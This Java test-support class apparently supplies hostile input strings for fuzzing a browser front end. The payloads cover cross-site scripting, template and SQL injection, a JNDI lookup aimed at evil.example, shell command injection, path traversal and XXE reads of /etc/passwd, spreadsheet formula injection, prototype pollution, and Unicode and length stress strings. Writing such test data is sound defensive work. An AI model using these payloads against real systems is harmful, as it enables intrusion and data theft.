package org.accalmie.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What may come out of a customer's mouth, or of a tool that writes it down. */
final class Hostile {
    /** The most that a text of a sheet takes. */
    private static final int LONGEST = 3_990;

    private static final List<String> OPENINGS =
            List.of("", "\">", "'>", "</textarea>", "</title></style>", "-->", "]]>", "<!--><b ");

    private static final List<String> MARKUP = List.of(
            "<script>window.pwned=1</script>",
            "<img src=x onerror='window.pwned=1'>",
            "<svg onload=window.pwned=1>",
            "<svg><script>window.pwned=1</script></svg>",
            "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
            "<iframe src=javascript:parent.pwned=1>",
            "<a href='javascript:window.pwned=1'>x</a>",
            "<form action=/sign-out method=post><button>OK</button></form>",
            "<button formaction='javascript:window.pwned=1' form=several>x</button>",
            "<div hx-get='/sign-out' hx-trigger='load'>x</div>",
            "<div hx-on:htmx:load='window.pwned=1'>x</div>",
            "<count-down until='2020-01-01T00:00:00Z'></count-down>",
            "<details open ontoggle=window.pwned=1>x</details>",
            "<meta http-equiv=refresh content='0;url=/sign-out'>",
            "<base href=//evil.example/>",
            "<style>*{display:none}</style>",
            "<object data=data:text/html,x></object>",
            "<math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
            "<input autofocus onfocus=window.pwned=1>");

    private static final List<String> LANGUAGES = List.of(
            "{title} {msg:skip} {#each}x{/each} {|raw|}",
            "{#include page/layout}{/include} {inject:foo} {cdi:bar.baz}",
            "{config:property('quarkus.http.port')} {str:eval('{1+1}')}",
            "${7*7} #{7*7} {{7*7}} <%= 7*7 %>",
            "{{constructor.constructor('window.pwned=1')()}}",
            "${jndi:ldap://evil.example/a}",
            "incident.anger == 'STRONG' || true",
            "has(incident.customer) ? incident.customer.id : 'x'",
            "incident.signals.exists(s, s.matches('(a+)+$'))",
            "{customerName} {customer.id}",
            "[lien](javascript:window.pwned=1) **gras** <b>gras</b>",
            "![x](https://evil.example/x.png) `x` ~~x~~ | a | b |",
            "# Titre - [ ] x > y --- ***",
            "javascript:window.pwned=1",
            "data:text/html,<script>parent.pwned=1</script>",
            "&lt;b&gt; &amp; &#x3c;script&#x3e; &nbsp; &copy",
            "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
            "\\u003cscript\\u003e \\x3cscript\\x3e \\74script\\76",
            "'; drop table incident; --",
            "' or '1'='1",
            "%s%n%x %1$s {0} {} {1}",
            "$(reboot) `reboot` | reboot && reboot",
            "../../../etc/passwd ..\\..\\x",
            "BEGIN:VCALENDAR X-A:B",
            "=cmd|' /C calc'!A0 +1+1 @SUM(1)",
            "Content-Type: text/html Set-Cookie: a=b",
            "null undefined NaN true 0 -1 1e309",
            "{\"a\": [1, 2], \"__proto__\": {\"pwned\": 1}}",
            "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            "' onfocus='window.pwned=1' autofocus='",
            "\" onmouseover=\"window.pwned=1\" x=\"");

    private static final List<String> WRITING = List.of(
            "\u202Eelttab eht fo dne eht\u202C fin",
            "\u2067droite\u2069 gauche \u2066x\u2069",
            "\u202Dx\u202C \u202By\u202C \u061Cz",
            "مرحبا بالعالم 123 abc",
            "שלום abc 123 עולם",
            "a\u200B\uFEFF\u2060b",
            "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
            "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A",
            "👩\u200D👩\u200D👧\u200D👦 🏳\uFE0F\u200D🌈 🇫🇷",
            "\uD83D\uDE00\uD83D\uDE00\uD83D\uDE00",
            "a\u2028b\u2029c",
            "ﷺﷺﷺ ꧅ 𒈙 ⸻",
            "Ⅷ ① ﬁ ſ İ ı ẞ",
            "漢字かなカナ한글",
            "ไม่มีช่องว่างระหว่างคำ",
            "«\u202F1\u202F234,50\u00A0€\u202F»",
            "test\u0085fin");

    private static final List<String> LONG = List.of(
            "W".repeat(LONGEST),
            "é".repeat(500),
            "<b>".repeat(300),
            "https://example.org/" + "a/".repeat(400),
            "\u202E" + "x".repeat(700));

    private Hostile() {}

    static List<String> all() {
        var markup = OPENINGS.stream().flatMap(opening -> MARKUP.stream().map(opening::concat));
        return Stream.of(markup, LANGUAGES.stream(), WRITING.stream(), LONG.stream())
                .flatMap(each -> each)
                .toList();
    }

    /** As many a text as it takes. */
    static List<List<String>> texts() {
        var texts = new ArrayList<List<String>>();
        var text = new ArrayList<String>();
        var length = 0;
        for (var each : all()) {
            if (length + each.length() + 1 > LONGEST + 1) {
                texts.add(text);
                text = new ArrayList<>();
                length = 0;
            }
            text.add(each);
            length += each.length() + 1;
        }
        texts.add(text);
        return texts;
    }
}
